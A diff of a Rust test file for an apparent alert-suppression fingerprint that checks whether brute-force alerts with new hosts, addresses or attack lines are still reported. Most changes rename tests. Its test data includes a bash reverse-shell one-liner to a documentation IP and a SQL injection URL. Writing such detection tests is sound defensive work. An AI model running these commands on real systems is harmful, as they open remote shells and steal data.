@@ -12,7 +12,7 @@ fn of(title: &str, lines: &[&str]) -> Fingerprint {
 }
 
 #[test]
-fn what_is_known_in_every_name_is_covered() {
+fn known_names_are_covered() {
     let lesson = of("Brute force of admin", &KNOWN);
     for (title, lines) in [
         ("Brute force of admin", &KNOWN[..]),
@@ -35,7 +35,7 @@ fn what_is_known_in_every_name_is_covered() {
 }
 
 #[test]
-fn whoever_is_new_is_not() {
+fn new_names_are_not_covered() {
     let lesson = of("Brute force of admin", &KNOWN);
     for (who, lines) in [
         (
@@ -89,7 +89,7 @@ fn whoever_is_new_is_not() {
             &[KNOWN[0], "bash -i >& /dev/tcp/203.0.113.4/4444 0>&1"],
         ),
         (
-            "a deed told by folded letters",
+            "an activity in folded letters",
             &[KNOWN[0], "GET /index.php?id=1 UNION SELECT name FROM users"],
         ),
         (
@@ -99,8 +99,8 @@ fn whoever_is_new_is_not() {
     ] {
         assert!(!lesson.covers(&of("Brute force of admin", lines)), "{who}");
     }
-    let said = of("Brute force from 198.51.100.7 against 192.0.2.10", &KNOWN);
-    assert!(!lesson.covers(&said), "only in words");
+    let only_words = of("Brute force from 198.51.100.7 against 192.0.2.10", &KNOWN);
+    assert!(!lesson.covers(&only_words), "only in words");
     let host = of("Brute force on db-07", &KNOWN);
     assert!(
         !lesson.covers(&host),
@@ -143,7 +143,7 @@ fn names_of_every_kind_count() {
 }
 
 #[test]
-fn nobody_hides_in_a_crowd() {
+fn new_attacker_among_many_is_not_covered() {
     let crowd: Vec<String> = (1..=60)
         .map(|n| format!("Failed password for admin from 10.0.0.{n} port 22 ssh2"))
         .collect();
@@ -157,7 +157,7 @@ fn nobody_hides_in_a_crowd() {
 }
 
 #[test]
-fn what_is_stored_still_tells_the_parts() {
+fn stored_suppression_keeps_roles() {
     let lesson = of("Brute force of admin", &KNOWN);
     let text = serde_json::to_string(&lesson).unwrap();
     let lesson: Fingerprint = serde_json::from_str(&text).unwrap();
@@ -165,5 +165,10 @@ fn what_is_stored_still_tells_the_parts() {
         "Brute force",
         &["Failed password for admin from 192.0.2.10 port 515 ssh2"],
     );
-    assert!(lesson.stranger(&turned).unwrap().contains("another role"));
+    assert!(
+        lesson
+            .unknown_entity(&turned)
+            .unwrap()
+            .contains("another role")
+    );
 }
